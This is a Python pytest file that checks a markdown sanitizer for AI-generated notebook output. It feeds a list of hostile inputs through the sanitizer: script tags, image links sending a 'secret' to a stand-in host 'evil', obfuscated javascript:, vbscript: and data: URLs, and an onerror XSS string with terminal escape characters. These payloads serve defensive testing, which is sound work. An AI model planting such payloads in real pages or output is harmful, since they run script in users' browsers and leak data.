"""Markdown of a model: what is shown is what was said, and nothing of it is HTML or fetched."""

from __future__ import annotations

import html
import json
import random
import re
import subprocess

import pytest

from onetool_ipy.render.markdown import safe
from onetool_ipy.render.result import Called, to_html, to_text
from tests.harness.servers import node
from tests.harness.surroundings import OUTSIDE, ROOT

HARMLESS = [
    "Plain *text* with **bold** and `code` and [a link](https://example.com).",
    "# Head\n\n- one\n- two\n\n1. a\n2. b\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "Math $x^2$ and $$y$$",
    "",
    "Compare a < b and `a<b>` and `vec![1, 2]` and `x | y`.",
    "```html\n<b>bold</b> ![x](y)\n```",
    "- do:\n    ```python\n    if a < b: pass\n    ```\n- then",
]


@pytest.mark.parametrize("text", HARMLESS[:4])
def test_harmless_markdown_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


def test_code_blocks_stay_as_they_are_written() -> None:
    text = "See:\n\n```html\n<b>bold</b> ![x](y)\n```\n\nand\n\n~~~\na < b\n~~~\ndone"

    shown = safe(text)

    assert "<b>bold</b> ![x](y)" in shown
    assert "a < b" in shown


def test_code_in_a_list_comes_to_the_margin() -> None:
    assert safe("- do:\n    ```python\n    if a < b:\n        pass\n    ```").split("\n") == [
        "- do:",
        "",
        "```python",
        "if a < b:",
        "    pass",
        "```",
    ]


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=http://evil/?q=secret>",
    "![x](http://evil/?q=secret)",
    "![x][r]\n\n[r]: http://evil/?q=secret",
    "`a` <img src=x> `b`",
    "`a\n\n<img src=x>`",
    "- `a\n- <img src=x>`",
    "| `a | <img src=x>` |\n|---|---|",
    "- ```\n  x\n  ```\n<img src=x>\n```",
    "> ```\n> x\n```\n<img src=x>\n```\n<img src=x>",
    "~~~ a`b\n~~~\n<img src=x>\n~~~",
    "```a`b\n```\n<img src=x>",
    "````\n```\n````\n<img src=x>",
    "a ``` b\n<img src=x>\n```",
    "```\ncode\n```\n<img src=x>",
    "\\`<img src=x>\\`",
    "`` ` `` <img src=x> `` ` ``",
    "<!-- ```\n--> <img src=x>",
    "    ~~~\n<img src=x>",
    "[a](javascript:alert(1))",
    "[a]( JavaScript:alert(1) 'title')",
    "[a](<javascript:alert(1)>)",
    "[a](&#106;avascript:alert(1))",
    "[a](java\\script:alert(1))",
    "[`a`](javascript:alert(1))",
    "[a](\njavascript:alert(1))",
    "[a](`x`javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "[a][r]\n\n[r]:\njavascript:alert(1)",
    "[r]\n\n> [r]: &#x6a;avascript:alert(1)",
    "[a\\](b](javascript:alert(1))",
    "<javascript:alert(1)>",
]


_TOKENS = [
    *(
        "`",
        "``",
        "```",
        "````",
        "~~~",
        "<img>",
        "![a](b)",
        "![a][r]",
        "[r]:b",
        "-",
        "1.",
        ">",
        "|",
        "a",
        "b|",
        "|---|",
    ),
    *(
        "\\",
        "<!--",
        "-->",
        "<pre>",
        "</pre>",
        "$",
        "$$",
        "*",
        "_",
        "[",
        "](",
        "<",
        "&lt;",
        "![",
        "#",
    ),
    *("\n", "\n\n", " ", "    ", "\t", "[a](j:x)", "[r]:j:x", "[r]", "http://"),
]


def _odd(seed: int) -> str:
    rng = random.Random(seed)
    return "".join(rng.choice(_TOKENS) for _ in range(rng.randint(2, 25)))


HOSTILE += [_odd(seed) for seed in range(300)]


@pytest.fixture(scope="module")
def rendered() -> dict[str, str]:
    """The hostile texts as the renderer of JupyterLab (marked) writes them in HTML, before any
    sanitizer."""
    program = """
      import { marked } from "marked";
      import { readFileSync } from "node:fs";
      const texts = JSON.parse(readFileSync(0, "utf-8"));
      console.log(JSON.stringify(texts.map(text => marked.parse(text, { gfm: true, async: false }))));
    """
    done = subprocess.run(
        [node(), "--input-type=module", "-e", program],
        cwd=ROOT / "tests" / "node",
        input=json.dumps([safe(text) for text in [*HOSTILE, *HARMLESS]]),
        capture_output=True,
        text=True,
        env={**OUTSIDE},
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return dict(zip([*HOSTILE, *HARMLESS], json.loads(done.stdout), strict=True))


def test_no_element_and_no_picture_of_the_text_is_rendered(rendered: dict[str, str]) -> None:
    """The odd ones are made at random; 40,000 of them were tried once."""
    found = {
        text: rendered[text]
        for text in HOSTILE
        if re.search(r"<(?:img|script|svg|!--)", rendered[text])
    }

    assert found == {}
    assert len(HOSTILE) > 300


def test_a_link_leads_to_a_page_and_runs_nothing(rendered: dict[str, str]) -> None:
    links = {link for text in rendered for link in re.findall(r'href="([^"]*)"', rendered[text])}

    assert "https://example.com" in links
    assert [one for one in links if not re.match(r"https?://|mailto:|#", html.unescape(one))] == []


@pytest.mark.parametrize("text", HARMLESS)
def test_what_was_said_is_rendered(rendered: dict[str, str], text: str) -> None:
    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered[text]))

    words = re.findall(
        r"[^\W_]+", re.sub(r"https?://\S+", "", text.replace("html", "").replace("python", ""))
    )
    assert [word for word in words if word not in shown] == [], shown


def test_a_fence_that_is_never_closed_is_closed() -> None:
    assert safe("```\ncode").endswith("\n```")


EVIL = "<img src=x onerror=alert(1)>\x1b[31m\u202e"


@pytest.mark.parametrize("state", ["running", "ok", "failed"])
def test_a_call_is_shown_without_anything_that_could_run(state: str) -> None:
    call = Called(
        EVIL, {EVIL: EVIL}, state, {EVIL: [EVIL]}, EVIL if state == "failed" else "", (EVIL,)
    )

    shown, text = to_html(call), to_text(call)

    assert "<img" not in shown
    assert "\x1b" not in shown + text
    assert "\u202e" not in shown + text
    assert shown.count("<details") == shown.count("</details>") == (0 if state == "running" else 1)


def test_a_call_shows_arguments_result_and_facts() -> None:
    call = Called(
        "fs.read_file", {"path": "a.txt"}, "ok", "one\ntwo", facts=("12 ms", "~40 tokens")
    )

    assert to_text(call).split("\n") == [
        '✓ fs.read_file path="a.txt"  (12 ms, ~40 tokens)',
        "    one",
        "    two",
    ]
    assert all(
        word in to_html(call)
        for word in ("fs.read_file", "a.txt", "12 ms", "~40 tokens", "one\ntwo")
    )


def test_a_call_with_much_in_it_is_cut() -> None:
    call = Called("a.b", {"x": "y" * 100_000}, "ok", "z\n" * 100_000)

    assert len(to_html(call)) < 20_000
    assert len(to_text(call)) < 1_000


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5, was $7.",
        "$5-$7",
        "from $HOME to $USER",
        "US$5 and US$ 6",
        "$a$b",
        "costs $$ or $$$",
        "**$5** | $6 |",
    ],
)
def test_a_dollar_sign_that_is_no_formula_is_never_typeset(text: str) -> None:
    """No `$` is left for MathJax; each stands in an element that it skips."""
    shown = safe(text)

    assert "$" not in shown
    assert re.sub(r"<span class=.mathjax_ignore tex2jax_ignore.>&#36;</span>", "$", shown) == text


def test_a_formula_between_lines_of_dollar_signs_stays() -> None:
    assert safe("$$\nx = 1\n$$") == "$$\nx = 1\n$$"
